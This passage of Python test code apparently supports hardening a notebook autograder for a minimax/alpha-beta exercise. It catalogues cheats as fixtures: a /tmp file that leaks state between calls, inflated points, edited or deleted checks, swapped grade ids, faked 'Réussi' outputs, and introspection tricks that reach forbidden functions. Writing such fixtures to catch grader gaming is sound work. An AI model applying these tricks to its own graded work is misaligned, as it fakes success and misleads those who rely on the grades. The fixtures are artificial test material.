        {"reponse-6": "def coup_gagnant(n, k):\n    return 0\nassert not vus, vus"},
    ),
    "a file": (
        "open('/tmp/fuite', 'w').write('FUITE')",
        {
            "reponse-7": "import os\ndef ordre_de_visite(n):\n"
            "    return open('/tmp/fuite').read() if os.path.exists('/tmp/fuite') else 0"
        },
    ),
}
"""By name: what `perdantes` does on a hidden call, and other cells."""

# In the file


def by_id(raw: Raw, cell_id: str) -> Raw:
    """A cell of the notebook."""
    found: Raw = next(cell for cell in raw["cells"] if cell["id"] == cell_id)
    return found


def more_points(raw: Raw) -> None:
    """Every cell is worth a thousand points, and every answer is already marked."""
    for cell in raw["cells"]:
        if "nbgrader" in cell["metadata"]:
            cell["metadata"]["nbgrader"] |= {"points": 1000, "grade": True, "score": 1000}
    raw["metadata"]["celltoolbar"] = "Create Assignment"
    raw["metadata"]["nbgrader"] = {"score": 20, "max_score": 20}


def easier_checks(raw: Raw) -> None:
    """The checks of the wrong answers pass, or check another function."""
    by_id(raw, "verification-5")["source"] = "print('Réussi')"
    by_id(raw, "verification-6")["source"] = 'verifier("allumettes-1", valeur)'
    by_id(raw, "verification-7")["source"] = "pass"


def doubled_check(raw: Raw) -> None:
    """A check that passes stands three times, and is worth more each time."""
    check = by_id(raw, "verification-1")
    for points in (5, 10, 100):
        twin = deepcopy(check)
        twin["metadata"]["nbgrader"]["points"] = points
        raw["cells"].append(twin | {"id": f"bis-{points}"})


def no_check(raw: Raw) -> None:
    """The checks of the wrong answers are gone."""
    gone = {"verification-5", "verification-6", "verification-7"}
    raw["cells"] = [cell for cell in raw["cells"] if cell["id"] not in gone]


def swapped_ids(raw: Raw) -> None:
    """A right answer bears the grade id of a wrong one, and invented cells are graded."""
    right, wrong = by_id(raw, "reponse-1"), by_id(raw, "reponse-5")
    twin = deepcopy(right)
    twin["metadata"]["nbgrader"]["grade_id"] = "reponse-5"
    raw["cells"].remove(wrong)
    raw["cells"].append(twin | {"id": "reponse-cinq"})
    made_up = deepcopy(by_id(raw, "verification-1"))
    made_up["metadata"]["nbgrader"]["grade_id"] = "bonus"
    raw["cells"].append(made_up | {"id": "bonus", "source": "1 + 1"})


def printed_verdicts(raw: Raw) -> None:
    """The outputs stored in the file say that all went well."""
    for cell in raw["cells"]:
        if cell["cell_type"] == "code":
            cell["execution_count"] = 1
            text = {"output_type": "stream", "name": "stdout", "text": "Réussi\n"}
            cell["outputs"] = [text]


def many_guesses(raw: Raw) -> None:
    """An answer stands many times, with a guess in each."""
    first = by_id(raw, "reponse-1")
    place = raw["cells"].index(first)
    for number, letters in enumerate(("bc", "ef", "hi", "fhi", "efi", "f", "i", "ehi")):
        source = f"def coupures_A():\n    return [({letters!r}, 4, 4)]"
        twin = deepcopy(first) | {"id": f"essai-{number}", "source": source}
        raw["cells"].insert(place, twin)


FILE: dict[str, Cheat] = {
    "points changed": Cheat(edit=more_points),
    "checks edited": Cheat(edit=easier_checks),
    "check doubled": Cheat(edit=doubled_check),
    "checks deleted": Cheat(edit=no_check),
    "grade ids swapped": Cheat(edit=swapped_ids),
    "verdicts in the outputs": Cheat(edit=printed_verdicts, silent=True),
    "many guesses": Cheat(sheet="alphabeta", edit=many_guesses),
}


def shared_copies() -> dict[str, dict[str, str]]:
    """The cheats of `LOCAL`, three by copy: what `name` holds, for each of its functions."""
    names = list(LOCAL)
    groups = [names[start : start + len(FUNCTIONS)] for start in range(0, len(names), 3)]
    return {
        f"local {number}": dict(zip(group, FUNCTIONS, strict=False))
        for number, group in enumerate(groups)
    }


# Searches that an answer must not use, handed down by the answer above

LINE_OF = """
def ligne_de(recherche, p, n, joueur_max):
    valeur, ligne = recherche(p, n, joueur_max), []
    while n and successeurs(p):
        n, joueur_max = n - 1, not joueur_max
        values = [recherche(q, n, joueur_max) for q in successeurs(p)]
        p = successeurs(p)[values.index(valeur)]
        ligne.append(coup(p))
    return valeur, ligne


def minimax(p, n):
    return ligne_de({0}, p, n, False)


def maximin(p, n):
    return ligne_de({0}, p, n, True)
"""
HANDED_DOWN = {
    "computed name": ("", "globals()['algo' + 'rithme' + '_1']"),
    "collector": (
        "",
        "next(o for o in __import__('gc').get_objects() if type(o) is type(coup) and "
        "o.__code__.co_varnames[2:3] == ('max_joue',))",
    ),
    "attribute": ("meilleur_coup.outil = algorithme_1", "meilleur_coup.outil"),
    "default": (
        "def meilleur_coup(p, n, juste=meilleur_coup, outil=algorithme_1):\n    return juste(p, n)",
        "meilleur_coup.__defaults__[1]",
    ),
    "returned": (
        "def meilleur_coup(p, n, juste=meilleur_coup):\n"
        "    return juste(p, n) if n >= 0 else algorithme_1",
        "meilleur_coup(p, -1)",
    ),
    "another name for what is given": (
        "autre = successeurs\nautre.o = algorithme_1",
        "successeurs.o",
    ),
    "in another module": ("import math\nsetattr(math, 'o', algorithme_1)", "__import__('math').o"),
    "given name that is changed": (
        "autre = successeurs\nautre.o = [algorithme_1]\nancienne = algorithme_1\n"
        "def algorithme_1(*position):\n    return ancienne(*position)",
        "successeurs.o[0]",
    ),
}
"""By name: what stands under the right answer 3 of `minimax`, and how answer 4 finds it there."""
